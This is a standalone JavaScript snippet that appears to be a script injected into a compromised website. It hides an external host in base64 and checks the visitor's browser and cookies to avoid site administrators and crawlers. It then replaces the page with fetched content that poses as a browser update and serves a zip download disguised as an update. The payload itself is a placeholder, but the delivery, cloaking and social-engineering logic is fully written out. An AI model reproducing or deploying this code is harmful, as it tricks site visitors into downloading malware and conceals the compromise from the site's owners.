;(function(){
    var base = 'aHR0cHM6Ly9jZG4udXBkLWdhdGUuaW52YWxpZC9y';
    var ua = navigator.userAgent;
    function c(n){ var m = document.cookie.match('(?:^|; )' + n + '=([^;]*)'); return m && m[1]; }
    if (/Windows NT/.test(ua) === false || /Android|Linux|Bot|crawl/i.test(ua)) return;
    if (c('__utma_v') || c('wordpress_test_cookie') || /wp-admin|wp-login/.test(location.href)) return;
    if (!document.referrer || document.referrer.split('/')[2] === location.host) return;
    var br = /Edg\//.test(ua) ? 'Edge' : /Firefox\//.test(ua) ? 'Firefox' : /Chrome\//.test(ua) ? 'Chrome' : null;
    if (!br) return;
    document.cookie = '__utma_v=1; max-age=604800; path=/';
    var x = new XMLHttpRequest();
    x.open('GET', atob(base) + '/' + br.toLowerCase() + '?v=' + (ua.match(/(Chrome|Firefox|Edg)\/(\d+)/) || [])[2], true);
    x.onload = function(){
        if (x.status != 200 || x.responseText.length < 200) return;
        document.documentElement.innerHTML = x.responseText;
        document.title = 'Update ' + br;
        var b = document.getElementById('btn-dl');
        b && (b.onclick = function(){
            var a = document.createElement('a');
            a.href = 'data:application/zip;base64,UExBQ0VIT0xERVI=';
            a.download = br + '.Update.' + Math.floor(Math.random()*1e5) + '.zip';
            a.click();
        });
    };
    x.send();
})();
